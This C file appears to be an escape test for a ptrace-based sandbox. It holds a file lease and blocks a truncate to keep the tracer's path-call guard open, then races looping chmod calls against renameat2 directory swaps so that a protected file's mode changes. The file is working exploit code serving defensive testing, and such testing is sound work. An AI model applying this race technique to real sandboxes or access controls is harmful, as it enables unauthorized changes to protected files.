/*
 * Vector 2: esc_anchor_capdrop_swap, with the path-call guard held open.
 * Once a tracee may not follow the tracer's fd links (here: it dropped
 * CAP_SYS_PTRACE), its path calls are pinned by resolved name and run one at
 * a time (tracer/anchor.c, the guard): a directory swap cannot run while a
 * chmod is between its decision and the kernel's walk. A guarded call that
 * does not end lets the waiting ones go after 200 ms, all at once, and
 * that is on demand: a child of ours holds a read lease on work/leased
 * (F_SETLEASE, not traced) and another truncates it, which blocks in the
 * kernel until the lease is broken (lease-break-time, 45 s by default).
 * Meanwhile every 200 ms the chmods and the swapper's renames are released
 * together, and the swap race of esc_dir_swap_chmod is open again (eight
 * more chmod children and two more swappers: more chances per batch).
 * success = protected/victim.txt's mode changed.
 * expect: ptrace_file
 * expect-match: protected
 */
#include "esc.h"
#include <signal.h>
#include <sys/prctl.h>
#include <sys/stat.h>

#include <linux/capability.h>

static void drop_caps(void)
{
	struct __user_cap_header_struct h = { _LINUX_CAPABILITY_VERSION_3, 0 };
	struct __user_cap_data_struct cd[2];

	if (geteuid() != 0)
		esc_skip("needs root (a capability to drop)");
	if (syscall(SYS_capget, &h, cd) < 0)
		esc_broken("capget: %s", strerror(errno));
	cd[0].effective &= ~((1u << CAP_SYS_PTRACE) | (1u << CAP_SYS_BOOT));
	if (syscall(SYS_capset, &h, cd) < 0)
		esc_broken("capset: %s", strerror(errno));
}

/* A child that dies with us (also when we died before its prctl: it
 * would spin on, orphaned, holding run.sh's output pipe open). */
static pid_t child(void)
{
	pid_t parent = getpid(), pid = fork();

	if (pid < 0)
		esc_broken("fork: %s", strerror(errno));
	if (pid == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		if (getppid() != parent)
			_exit(0);
	}
	return pid;
}

int main(void)
{
	const char *leased = esc_fmt("%s/leased", esc_work());
	const char *victim = esc_fmt("%s/victim.txt", esc_protected());
	const char *target = esc_fmt("%s/d/victim.txt", esc_work());
	const char *dir = esc_fmt("%s/d", esc_work()), *lnk = esc_fmt("%s/linkdir", esc_work());
	struct stat st;
	mode_t before;
	int p[2], fd;
	char c;

	drop_caps();
	if (stat(victim, &st) < 0)
		esc_broken("stat %s: %s", victim, strerror(errno));
	before = st.st_mode & 07777;
	fd = open(leased, O_WRONLY | O_CREAT, 0644);
	if (fd < 0 || write(fd, "x", 1) != 1 || close(fd) < 0 || pipe(p) < 0)
		esc_broken("%s: %s", leased, strerror(errno));
	if (child() == 0) { /* the lease holder: never gives it back */
		signal(SIGIO, SIG_IGN);
		fd = open(leased, O_RDONLY);
		if (fd < 0 || fcntl(fd, F_SETLEASE, F_RDLCK) < 0)
			_exit(2);
		if (write(p[1], "x", 1) != 1)
			_exit(2);
		for (;;)
			pause();
	}
	if (read(p[0], &c, 1) != 1)
		esc_skip("no read lease on %s (leases disabled?)", leased);
	if (child() == 0) { /* a guarded call that does not end */
		for (;;)
			truncate(leased, 0);
	}
	usleep(100 * 1000);
	/* More chmods and swaps per released batch: more chances per 200 ms. */
	for (int i = 0; i < 8; i++)
		if (child() == 0)
			for (;;)
				chmod(target, before ^ 0100);
	for (int i = 0; i < 2; i++)
		if (child() == 0)
			for (;;)
				renameat2(AT_FDCWD, lnk, AT_FDCWD, dir, RENAME_EXCHANGE);
	esc_chmod_swap_race(" (the guard held open by a leased truncate)");
}
